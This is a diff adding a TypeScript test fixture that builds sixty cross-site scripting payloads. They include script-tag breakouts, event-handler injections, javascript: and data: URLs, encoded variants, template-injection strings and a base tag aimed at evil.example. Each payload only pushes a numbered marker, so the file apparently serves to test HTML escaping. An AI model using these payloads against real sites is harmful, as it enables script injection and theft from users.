@@ -1,0 +1,73 @@
+// Texts that would run a script, or make an element, in a page that writes them as they are. Each marks where it ran.
+
+/** Whoever looks makes the list. Short, since a name holds 64 characters. */
+const mark = (at: number): string => `window.ran.push(${at})`
+
+const FORMS: readonly ((run: string) => string)[] = [
+  (run) => `<script data-planted>${run}</script>`,
+  (run) => `"><script data-planted>${run}</script>`,
+  (run) => `'><script data-planted>${run}</script>`,
+  (run) => `</script><script data-planted>${run}</script>`,
+  (run) => `</title><script data-planted>${run}</script>`,
+  (run) => `</textarea><script data-planted>${run}</script>`,
+  (run) => `--><script data-planted>${run}</script>`,
+  (run) => `]]><script data-planted>${run}</script>`,
+  (run) => `<ScRiPt data-planted>${run}</sCrIpT>`,
+  (run) => `<script/x data-planted>${run}</script>`,
+  (run) => `<scr<script data-planted>ipt>${run}</scr</script>ipt>`,
+  (run) => `<img data-planted src=x onerror="${run}">`,
+  (run) => `"><img data-planted src=x onerror="${run}">`,
+  (run) => `<img data-planted src=x onerror=${run}//`,
+  (run) => `<svg data-planted onload="${run}">`,
+  (run) => `<svg data-planted><script>${run}</script></svg>`,
+  (run) => `<svg data-planted><animate onbegin="${run}" attributeName=x dur=1s>`,
+  (run) => `</text></svg><svg data-planted onload="${run}">`,
+  (run) => `<svg data-planted><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
+  (run) => `<svg data-planted><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
+  (run) => `<math data-planted><mi xlink:href="javascript:${run}">x</mi></math>`,
+  (run) => `<iframe data-planted src="javascript:${run}"></iframe>`,
+  (run) => `<iframe data-planted srcdoc="<script>parent.${run}</script>"></iframe>`,
+  (run) => `<object data-planted data="javascript:${run}"></object>`,
+  (run) => `<embed data-planted src="javascript:${run}">`,
+  (run) => `<body data-planted onload="${run}">`,
+  (run) => `<input data-planted autofocus onfocus="${run}">`,
+  (run) => `" autofocus onfocus="${run}" data-planted="`,
+  (run) => `' onmouseover='${run}' data-planted='`,
+  (run) => `" onmouseover="${run}" data-planted x="`,
+  (run) => `<details data-planted open ontoggle="${run}">x</details>`,
+  (run) => `<video data-planted><source onerror="${run}"></video>`,
+  (run) => `<audio data-planted src=x onerror="${run}">`,
+  (run) => `<marquee data-planted onstart="${run}">x</marquee>`,
+  (run) => `<form data-planted action="javascript:${run}"><button>x</button></form>`,
+  (run) => `<button data-planted formaction="javascript:${run}">x</button>`,
+  (run) => `<a data-planted href="javascript:${run}">x</a>`,
+  (run) => `javascript:${run}`,
+  (run) => `java\tscript:${run}`,
+  (run) => `data:text/html,<script>parent.${run}</script>`,
+  (run) => `<a data-planted href="data:text/html,<script>${run}</script>">x</a>`,
+  (run) => `<base data-planted href="//evil.example/">${run}`,
+  (run) => `<meta data-planted http-equiv="refresh" content="0;url=javascript:${run}">`,
+  (run) => `<link data-planted rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
+  (run) => `<style data-planted>@import 'javascript:${run}';body{display:none}</style>`,
+  (run) => `</style><script data-planted>${run}</script>`,
+  (run) => `<template data-planted><script>${run}</script></template><img data-planted src=x onerror="${run}">`,
+  (run) => `<noscript><p title="</noscript><img data-planted src=x onerror=${run}>">`,
+  (run) => `<x data-planted onclick="${run}" style="position:fixed;inset:0">x</x>`,
+  (run) => `<x data-planted tabindex=1 onfocus="${run}"></x>`,
+  (run) => `&lt;script data-planted&gt;${run}&lt;/script&gt;<b data-planted>`,
+  (run) => `&#60;script data-planted&#62;${run}&#60;/script&#62;<i data-planted>`,
+  (run) => `\\u003cscript data-planted\\u003e${run}\\u003c/script\\u003e<u data-planted>`,
+  (run) => `%3Cscript data-planted%3E${run}%3C/script%3E<s data-planted>`,
+  (run) => `＜script＞${run}＜/script＞<em data-planted>`,
+  (run) => `\${${run}}{{${run}}}<%= ${run} %><strong data-planted>`,
+  (run) => `\`);${run};(\`<q data-planted>`,
+  (run) => `');${run};('<q data-planted>`,
+  (run) => `"]);${run};self.__next_f.push([1,"<q data-planted>`,
+  (run) => `</script><!--<script data-planted>${run}</script>-->`,
+]
+
+/** Sixty of them, each with its number. */
+export const PAYLOADS: readonly string[] = FORMS.map((form, at) => form(mark(at)))
+
+/** A sample that holds each kind once. */
+export const SAMPLE: readonly string[] = [0, 3, 11, 14, 17, 21, 27, 36, 37, 47, 58, 59].map((at) => PAYLOADS[at] ?? '')
